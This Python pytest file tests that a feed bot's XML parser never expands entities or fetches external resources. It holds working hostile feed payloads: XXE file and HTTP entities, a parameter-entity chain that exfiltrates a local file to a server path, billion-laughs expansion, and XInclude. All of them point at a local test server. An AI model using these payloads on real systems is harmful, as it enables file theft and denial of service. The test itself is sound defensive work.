"""XML tricks through the whole pipeline: no entity is expanded, no external entity or DTD is fetched or read.

The hostile feeds point their external entities and DTDs at the same local server that serves them, so
"never fetched" is checked on the server's own request log; "never read" by a marker file on disk.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from aiohttp import web

from bot.ingest.parse import FeedParseError, parse_feed
from tests.security.harness import pipeline_world

MARKER = "TOP-SECRET-MARKER-5f3a"


def attacks(base: str, secret_file: Path) -> dict[str, str]:
    """Return hostile feed documents whose entities point at `base` (the local server) and `secret_file`."""
    file_url = secret_file.as_uri()
    item = "<item><title>T {ref}</title><link>https://x.example/1</link><description>D {ref}</description></item>"
    rss = '<rss version="2.0"><channel><title>X</title>{items}</channel></rss>'
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    return {
        "external_http_entity": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "{base}/entity">]>'
        + rss.format(items=item.format(ref="&e;")),
        "external_file_entity": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY e SYSTEM "{file_url}">]>'
        + rss.format(items=item.format(ref="&e;")),
        "external_dtd": f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{base}/evil.dtd">'
        + rss.format(items=item.format(ref="")),
        "public_dtd": f'<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//X//DTD X//EN" "{base}/public.dtd">'
        + rss.format(items=item.format(ref="")),
        "parameter_entity": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "{base}/param.dtd"> %p;]>'
        + rss.format(items=item.format(ref="&exfil;")),
        "parameter_entity_exfiltration": '<?xml version="1.0"?><!DOCTYPE rss ['
        f'<!ENTITY % file SYSTEM "{file_url}">'
        f'<!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM \'{base}/exfil?d=%file;\'>"> %wrap; %send;]>'
        + rss.format(items=item.format(ref="")),
        "billion_laughs": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">' + laughs + "]>"
        + rss.format(items=item.format(ref="&l11;")),
        "doctype_with_bracket_in_literal": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY t "]>">'
        f'<!ENTITY e SYSTEM "{base}/entity">]>' + rss.format(items=item.format(ref="&e;")),
        "xinclude": '<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel>'
        f'<title>X</title><item><title>T</title><link>https://x.example/1</link><description>'
        f'<xi:include href="{base}/entity" parse="text"/><xi:include href="{file_url}" parse="text"/>'
        "</description></item></channel></rss>",
        "xml_stylesheet": f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{base}/style.xsl"?>'
        + rss.format(items=item.format(ref="")),
        "atom_external_entity": f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY e SYSTEM "{base}/entity">]>'
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>A &e;</title><entry><title>E &e;</title>'
        '<link href="https://x.example/a"/><id>a</id><summary>S &e;</summary></entry></feed>',
    }


NAMES = list(attacks("http://h", Path("/x")))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16-le", "utf-16"])
@pytest.mark.parametrize("name", NAMES)
async def test_xml_attacks_never_expand_or_fetch(tmp_path: Path, name: str, encoding: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(MARKER)
    async with pipeline_world(tmp_path) as world:
        for path in ("/entity", "/evil.dtd", "/public.dtd", "/param.dtd", "/exfil", "/style.xsl"):

            async def leak(request: web.Request) -> web.Response:
                return web.Response(text=f'<!ENTITY exfil "{MARKER}">{MARKER}')

            world.server.add(path, leak)
        base = world.server.url("")
        document = attacks(base, secret)[name]
        if encoding != "utf-8":
            # A wide encoding without a BOM (utf-16-le) hides "<!DOCTYPE" from byte-level searches.
            document = document.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
        world.serve("/feed.xml", document.encode(encoding))
        report = await world.poll("/feed.xml")
        requested = [r.path for r in world.server.requests if r.path != "/feed.xml"]
        stored = world.store.latest_articles(50)
    assert requested == [], f"{name}: the parser fetched {requested}"
    if not report.ok:
        assert report.error and not report.error.startswith("internal error"), report.error
    for article in stored:
        blob = f"{article.title} {article.text} {article.summary}"
        assert MARKER not in blob
        assert "lollollol" not in blob
        assert len(blob) < 10_000


def test_billion_laughs_parse_is_cheap() -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    body = (
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">' + laughs + "]>"
        '<rss version="2.0"><channel><title>&l11;</title><item><title>&l11;</title>'
        "<link>https://x.example/1</link></item></channel></rss>"
    ).encode("utf-16-le")
    try:
        parsed = parse_feed(body, "http://feed.test/")
    except FeedParseError as exc:  # unreadable without a BOM is an acceptable answer, with its reason
        assert exc.reason
        return
    assert all(len(e.title) < 100 for e in parsed.entries)
    assert len(parsed.title) < 100
